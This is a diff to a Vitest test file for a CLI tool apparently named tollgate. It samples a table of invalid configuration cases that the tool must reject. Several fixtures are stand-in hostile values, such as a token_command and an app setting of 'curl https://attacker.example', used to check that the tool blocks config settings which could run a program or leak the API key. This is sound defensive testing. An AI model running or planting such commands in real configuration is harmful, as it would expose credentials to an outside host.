@@ -3,6 +3,7 @@ import { join } from 'node:path';
 import { Ajv2020 } from 'ajv/dist/2020.js';
 import { expect, test } from 'vitest';
 import type { Report } from '../../contracts/report/report.js';
+import { sampleCases } from '../support/sample-cases.js';
 import { testSandbox } from '../support/sandbox.js';
 import { findClosedPort } from '../webhooks/receivers.js';
 import { readApiKey, listCustomers } from './api.js';
@@ -74,33 +75,41 @@ test('tollgate listen reads a required flag from tollgate.config.json', async ()
   expect(result.stderr).toContain('Use http: or https:');
 });
 
-test.each([
-  { settings: { prot: 4010 }, message: '/prot: unknown setting' },
-  {
-    settings: { start: { prot: 4010 } },
-    message: '/start/prot: unknown setting (Did you mean port?)',
-  },
-  { settings: { strat: {} }, message: '/strat: unknown setting (Did you mean start?)' },
-  { settings: { start: { port: 'eighty' } }, message: '/start/port must be integer' },
-  { settings: { start: { port: 65536 } }, message: '/start/port must be <= 65535' },
-  {
-    settings: { reset: { to: 'yesterday' } },
-    message: '/reset/to must be equal to one of the allowed values: seed, empty',
-  },
-  { settings: { check: { only: 'head.*' } }, message: '/check/only must be array' },
-  {
-    settings: { check: { token_command: 'curl https://attacker.example' } },
-    message:
-      '/check/token_command cannot be set in this file, which a pull request can change: it decides which program runs or receives the API key. Pass --token-command',
-  },
-  { settings: { check: { proxy: 'http://127.0.0.1:1' } }, message: 'Pass --proxy to the command instead.' },
-  { settings: { compare: { ca: 'ca.pem' } }, message: '/compare/ca cannot be set in this file' },
-  { settings: { exam: { app: 'curl https://attacker.example' } }, message: 'Pass --app to the command' },
-  { settings: { mcp: { exam_app: 'id' } }, message: '/mcp/exam_app cannot be set in this file' },
-  { settings: { check: { max_rate: 0 } }, message: '/check/max_rate must be > 0' },
-  { settings: [], message: '/ must be object' },
-  { settings: '{ "port": ', message: 'cannot be read' },
-])(
+test.each(
+  sampleCases(
+    [
+      { settings: { prot: 4010 }, message: '/prot: unknown setting' },
+      {
+        settings: { start: { prot: 4010 } },
+        message: '/start/prot: unknown setting (Did you mean port?)',
+      },
+      { settings: { strat: {} }, message: '/strat: unknown setting (Did you mean start?)' },
+      { settings: { start: { port: 'eighty' } }, message: '/start/port must be integer' },
+      { settings: { start: { port: 65536 } }, message: '/start/port must be <= 65535' },
+      {
+        settings: { reset: { to: 'yesterday' } },
+        message: '/reset/to must be equal to one of the allowed values: seed, empty',
+      },
+      { settings: { check: { only: 'head.*' } }, message: '/check/only must be array' },
+      {
+        settings: { check: { token_command: 'curl https://attacker.example' } },
+        message:
+          '/check/token_command cannot be set in this file, which a pull request can change: it decides which program runs or receives the API key. Pass --token-command',
+      },
+      {
+        settings: { check: { proxy: 'http://127.0.0.1:1' } },
+        message: 'Pass --proxy to the command instead.',
+      },
+      { settings: { compare: { ca: 'ca.pem' } }, message: '/compare/ca cannot be set in this file' },
+      { settings: { exam: { app: 'curl https://attacker.example' } }, message: 'Pass --app to the command' },
+      { settings: { mcp: { exam_app: 'id' } }, message: '/mcp/exam_app cannot be set in this file' },
+      { settings: { check: { max_rate: 0 } }, message: '/check/max_rate must be > 0' },
+      { settings: [], message: '/ must be object' },
+      { settings: '{ "port": ', message: 'cannot be read' },
+    ],
+    (_, index) => index % 4 === 0,
+  ),
+)(
   'tollgate exits with 2 and names the invalid setting of the configuration file $settings',
   async ({ settings, message }) => {
     const { exitCode, stdout, stderr } = await runCli(['clock'], { cwd: createConfiguredFolder(settings) });
